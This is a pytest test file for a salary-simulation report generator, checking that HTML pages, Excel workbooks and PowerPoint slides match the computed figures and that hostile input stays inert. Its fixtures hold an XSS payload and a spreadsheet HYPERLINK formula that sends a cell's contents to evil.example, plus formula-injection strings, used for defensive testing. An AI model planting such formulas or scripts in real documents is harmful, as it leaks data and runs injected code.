"""Reports: figures equal the tables to the digit, native charts, three readers and languages, hostile text is text."""

import io
import re
import shutil
import zipfile
from html.parser import HTMLParser

import numpy as np
import openpyxl
import pytest
from pptx import Presentation

from simulator import InputError, compare, simulate
from simulator.report.evidence import gather
from simulator.report.page import page, pdf
from simulator.report.parts import Cell, Table, shown
from simulator.report.slide_tables import FULL, laid_out
from simulator.report.slides import slides
from simulator.report.story import READERS, report_of
from simulator.report.workbook import workbook
from simulator.report.write import check, write_report
from simulator.runs import load_run, reproduce
from simulator.scenario import from_mapping
from simulator.text import LANGUAGES, keys
from tests.explore.made import LINE, STEP, scenario

TODAY = {**LINE, "name": "Today"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def found():
    return gather(scenario(today=TODAY, scheme=STEP), paths=120, seed=3)


@pytest.fixture(scope="module")
def hostile():
    bad_scheme = {
        "name": f"+\x07{SCRIPT}\x00",
        "note": EVIL + "\x0b",
        "elements": [{"commission": {"label": EVIL[:80], "measure": "revenue", "rate": 0.003}}],
    }
    team = [
        {"name": EVIL, "salary": 1000, "portfolio": {"n_clients": 4, "monthly_revenue": 9000}},
        {"name": SCRIPT, "salary": 1200, "portfolio": {"n_clients": 5, "monthly_revenue": 9000}},
        {"name": "@SUM(1)", "salary": 900, "portfolio": {"n_clients": 5, "monthly_revenue": 8000}},
    ]
    market = from_mapping({"name": f"-{SCRIPT} & \u202ereversed", "managers": team, "scheme": bad_scheme,
                           "today": {**LINE, "name": "=1+1"}, "story": SCRIPT})  # fmt: skip
    return gather(market, paths=40)


class Reader(HTMLParser):
    """Tags, addresses and exact figures of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.addresses, self.figures, self.text = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        given = dict(attrs)
        self.addresses += [v for k, v in given.items() if k in ("src", "href", "action", "data", "srcset")]
        if tag == "data":
            self.figures.append(float(given["value"]))
        assert not [k for k in given if k.startswith("on")]

    def handle_data(self, data):
        self.text.append(data)


def read(html):
    reader = Reader()
    reader.feed(html)
    return reader


def cells(content, sheet):
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    return [[c.value for c in row] for row in book[sheet].iter_rows(min_row=5)]


def test_figures_of_a_workbook_are_those_of_the_runs_bit_for_bit(found):
    rows = cells(workbook(report_of(found, "consultant", "en")), "Key figures")
    head = rows[0]
    assert head[:6] == ["Measure", "Today", "± (95 %)", "Step", "± (95 %)", "Difference"]
    old, new = (simulate(scenario(), s, paths=120, seed=3) for s in (TODAY, STEP))
    difference = compare([old, new]).table
    by_name = {r[0]: r for r in rows[1:] if r[0]}
    row = by_name["Cost: salaries and variable pay"]
    assert row[1] == old.summary()["mean"]["cost_total"] and row[3] == new.summary()["mean"]["cost_total"]
    assert row[2] == pytest.approx(1.959963984540054 * old.summary()["mc_error"]["cost_total"], rel=1e-15)
    paired = difference.loc[("Step", "cost_total")]
    assert row[5] == pytest.approx(paired["difference"], rel=1e-12)
    assert row[6] == pytest.approx((paired["high"] - paired["low"]) / 2, rel=1e-12)
    # Shares: the difference is in percentage points.
    chance = by_name["Managers at plan"]
    assert chance[5] == pytest.approx(100 * (chance[3] - chance[1]), abs=1e-12)


def test_differences_of_a_workbook_are_formulas_that_give_their_cached_value(found):
    content = workbook(report_of(found, "consultant", "en"))
    formulas = openpyxl.load_workbook(io.BytesIO(content))["Key figures"]
    values = openpyxl.load_workbook(io.BytesIO(content), data_only=True)["Key figures"]
    tried = 0
    for row in formulas.iter_rows(min_row=6):
        for cell in row:
            if cell.data_type != "f":
                continue
            found_ = re.fullmatch(r"=\((\w+)-(\w+)\)(\*100)?", cell.value)
            expected = (values[found_[1]].value - values[found_[2]].value) * (100 if found_[3] else 1)
            assert values[cell.coordinate].value == pytest.approx(expected, rel=1e-12, abs=1e-12)
            tried += 1
    assert tried >= 14


def test_a_workbook_freezes_heads_carries_charts_sources_and_definitions(found):
    content = workbook(report_of(found, "consultant", "en"))
    book = openpyxl.load_workbook(io.BytesIO(content))
    findings = ["Key figures", "Cost", "Motivation", "Managers", "Bad years", "Cash", "Check"]
    assert book.sheetnames == ["Contents", *findings, "Scheme", "Assumptions", "Definitions"]
    assert all(book[s].freeze_panes == "B6" for s in book.sheetnames[1:])
    charts = {s: len(book[s]._charts) for s in book.sheetnames}
    assert [charts[s] for s in ("Cost", "Motivation", "Managers", "Bad years", "Cash")] == [1] * 5
    sources = {r[0]: r for r in cells(content, "Assumptions")}
    assert sources["Strength of response"][1] == 0.05 and "Misra" in sources["Strength of response"][3]
    assert '"UAH"' in book["Cost"]["B6"].number_format
    told = {r[0]: r[1] for r in cells(content, "Definitions")}
    assert told["Cost of sales (CCOS)"].startswith("Compensation cost of sales")
    assert found.proposal.fingerprint in book["Contents"].cell(5 + len(book.sheetnames) - 1, 1).value


def test_a_page_holds_the_same_figures_and_asks_nobody(found):
    html = page(report_of(found, "consultant", "en"))
    seen = read(html)
    for result in found.results:
        for measure in ("cost_total", "margin", "p_at_plan", "quit_risk"):
            assert result.summary()["mean"][measure] in seen.figures
    assert all(a.startswith(("data:image/png;base64,", "#")) for a in seen.addresses)
    assert "script" not in seen.tags and "link" not in seen.tags and "http://" not in html and "https://" not in html
    assert seen.tags.count("img") == 5 and 'alt="' in html and "@media print" in html
    assert "default-src 'none'" in html


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("reader", READERS)
def test_every_reader_is_told_in_every_language(found, reader, lang):
    report = report_of(found, reader, lang)
    assert [p.key for p in report.pages] == [*READERS[reader], "scheme", "assumptions", "definitions"]
    assert all(p.title and p.short for p in report.pages)
    assert all(p.so_what for p in report.pages[: len(READERS[reader])] if p.key != "remarks")
    text = " ".join(read(page(report)).text)
    told = report.pages[0].title + " ".join(report.pages[0].so_what)
    if lang != "en":
        assert re.search("[а-яіїєґ]", told) and not re.search(r"\b(costs|year|margin)\b", told)
    assert found.proposal.fingerprint in text
    assert len(workbook(report)) > 5000 and len(slides(report)) > 20000


def test_slides_are_wide_editable_and_say_where_figures_come_from(found):
    deck = Presentation(io.BytesIO(slides(report_of(found, "leadership", "en"))))
    assert (deck.slide_width / deck.slide_height) == pytest.approx(16 / 9, rel=1e-3)
    charts = [s.chart for slide in deck.slides for s in slide.shapes if s.has_chart]
    assert len(charts) == 4  # cost, cash, bad years, motivation
    source = "seed 3"
    for slide in deck.slides:
        texts = [s.text_frame.text for s in slide.shapes if s.has_text_frame]
        assert any(source in t and found.proposal.fingerprint in t for t in texts)
        for shape in slide.shapes:
            right, foot = shape.left + shape.width, shape.top + shape.height
            assert shape.left >= 0 and right <= deck.slide_width and foot <= deck.slide_height, shape.name
    cost = charts[0]
    series = {s.name: tuple(s.values) for s in cost.plots[0].series}
    expected = [found.budgets[-1][k] for k in ("p10", "p50", "p90")]
    np.testing.assert_array_equal(series["Step"], expected)
    assert series["Budget"] == (27000.0,) * 3
    with zipfile.ZipFile(io.BytesIO(slides(report_of(found, "leadership", "en")))) as parts:
        assert sum(n.startswith("ppt/embeddings/") for n in parts.namelist()) == 4


def test_tables_are_cut_by_the_room_that_their_texts_need():
    long = Table((("a", "A"), ("b", "B")), [[Cell("word " * 60), Cell("x")] for _ in range(30)])
    parts = laid_out(long, "en", 4.85)
    assert sum(len(p.texts) for p in parts) == 30 and len(parts) > 2
    assert all(sum(p.widths) == pytest.approx(FULL) for p in parts)
    short = laid_out(Table((("a", "A"), ("b", "B")), [[Cell("w"), Cell(1.0, "index")]] * 3), "en", 4.85)
    assert len(short) == 1 and short[0].figures == [False, True]


def test_hostile_text_stays_text_in_a_page(hostile):
    html = page(report_of(hostile, "consultant", "en"))
    seen = read(html)
    assert "script" not in seen.tags and not [a for a in seen.addresses if "onerror" in a]
    assert "<script" not in html and SCRIPT in " ".join(seen.text)


def test_hostile_text_is_no_formula_in_a_workbook(hostile):
    content = workbook(report_of(hostile, "consultant", "en"))
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert re.fullmatch(r"=\(\w+-\w+\)(\*100)?", cell.value), cell.value
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    texts += 1
                assert cell.hyperlink is None
    assert texts >= 3


def test_hostile_text_is_no_formula_in_the_sheets_behind_slides(hostile):
    content = slides(report_of(hostile, "consultant", "en"))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [n for n in parts.namelist() if n.startswith("ppt/embeddings/")]
        assert sheets
        for name in sheets:
            book = openpyxl.load_workbook(io.BytesIO(parts.read(name)))
            kinds = {c.data_type for sheet in book for row in sheet.iter_rows() for c in row}
            assert "f" not in kinds
        assert not any(b'TargetMode="External"' in parts.read(n) for n in parts.namelist() if n.endswith(".rels"))
    deck = Presentation(io.BytesIO(content))
    assert any(SCRIPT[:20] in s.text_frame.text for slide in deck.slides for s in slide.shapes if s.has_text_frame)


def test_a_scheme_without_variable_pay_and_a_market_without_answer_are_told_too():
    found = gather(scenario(scheme=None, budget_y=None), paths=30, behaviour="none")
    report = report_of(found, "consultant", "en")
    titles = {p.key: p.title for p in report.pages}
    assert "Nobody answers to pay" in titles["motivation"]
    assert titles["people"].startswith("Nobody earns more")
    assert "cost the same" in titles["summary"]
    assert len(slides(report)) > 20000 and len(workbook(report)) > 5000 and page(report)


def test_every_run_of_a_report_is_in_the_record_and_reproduces(tmp_path, found):
    file = write_report(scenario(today=TODAY, scheme=STEP), kind="page", reader="hr", paths=60, out=tmp_path / "r.html")
    runs = re.search(r"simulator reproduce ([0-9a-f, ]+)", file.read_text(encoding="utf-8"))[1].split(", ")
    assert len(runs) == 2
    for run in runs:
        assert load_run(run.strip()).paths == 60
        assert reproduce(run.strip()) == {}
    assert [p.name for p in tmp_path.iterdir()] == ["r.html"]  # nothing half-written beside it


def test_of_a_large_team_both_ends_are_drawn_and_all_are_listed():
    team = [{"name": "M", "count": 120, "salary": 1000, "portfolio": {"n_clients": 3, "monthly_revenue": 9000}}]
    found = gather(scenario(managers=team, today=TODAY, scheme=STEP), paths=20, bad_years=False)
    people = {p.key: p for p in report_of(found, "hr", "en").pages}["people"]
    assert len(people.chart.categories) == 24 and len(people.table.rows) == 120
    assert any("24 managers with the largest changes" in s for s in people.so_what)
    told = [s.text_frame.text for slide in Presentation(io.BytesIO(slides(report_of(found, "hr", "en")))).slides
            for s in slide.shapes if s.has_text_frame]  # fmt: skip
    listed = sum(
        len(s.table.rows) - 1 for slide in Presentation(io.BytesIO(slides(report_of(found, "hr", "en")))).slides
        for s in slide.shapes if s.has_table and s.table.cell(0, 0).text_frame.text == "Manager"
    )  # fmt: skip
    left = [int(t.split()[0]) for t in told if t.endswith("more rows; all of them are in the workbook.")]
    assert listed + sum(left) == 120


def test_several_schemes_stand_side_by_side():
    found = gather(scenario(), [TODAY, {**LINE, "name": "Line"}, STEP], paths=40, bad_years=False)
    assert found.names == ("Today", "Line", "Step") and found.stress is None
    report = report_of(found, "consultant", "uk")
    assert "stress" not in [p.key for p in report.pages]
    heads = [t for _, t in report.pages[0].table.columns]
    assert heads.count("Різниця") == 2
    with pytest.raises(InputError, match="at most 4"):
        gather(scenario(), [TODAY] * 5, paths=40)


def test_wrong_choices_are_told_together_before_anything_runs():
    with pytest.raises(InputError) as error:
        check("poster", "boss", "fr", None)
    assert {f.where for f in error.value.faults} == {"--kind", "--reader", "--lang"}
    with pytest.raises(InputError, match=r"\.xlsx"):
        check("workbook", "hr", "en", "report.pptx")
    with pytest.raises(InputError, match="50,000"):
        gather(scenario(), paths=60_000)


@pytest.mark.parametrize(
    ("cell", "en", "uk"),
    [
        (Cell(573142.4, "money", 312.2), "573,142 ± 312 USD", "573 142 ± 312 USD"),
        (Cell(-1234.5, "money", signed=True), "−1,234 USD", "−1 234 USD"),
        (Cell(0.1298, "share"), "12.98 %", "12,98 %"),
        (Cell(0.0573, "points", signed=True), "+5.73", "+5,73"),
        (Cell(0.0, "points", signed=True), "0", "0"),
        (Cell(None, "share"), "–", "–"),
        (Cell(float("nan"), "money"), "–", "–"),
        (Cell("=1+1"), "=1+1", "=1+1"),
    ],
)
def test_figures_are_written_the_way_a_language_does(cell, en, uk):
    assert shown(cell, "en", "USD").replace("\u00a0", " ") == en
    assert shown(cell, "uk", "USD").replace("\u00a0", " ") == uk


def test_catalogues_of_reports_have_no_holes():
    assert keys("en", "report") == keys("uk", "report") == keys("ru", "report")


@pytest.mark.skipif(not shutil.which("chromium"), reason="no Chromium on this machine")
def test_a_page_becomes_a_pdf(found):
    assert pdf(page(report_of(found, "hr", "uk"))).startswith(b"%PDF-")


def test_without_a_browser_the_way_out_is_told(monkeypatch, found):
    monkeypatch.setenv("PLANNER_CHROMIUM", "")
    monkeypatch.setattr("simulator.report.page.BROWSERS", ("no-such-browser",))
    with pytest.raises(InputError, match=r"report\.html"):
        pdf("<p>page</p>")
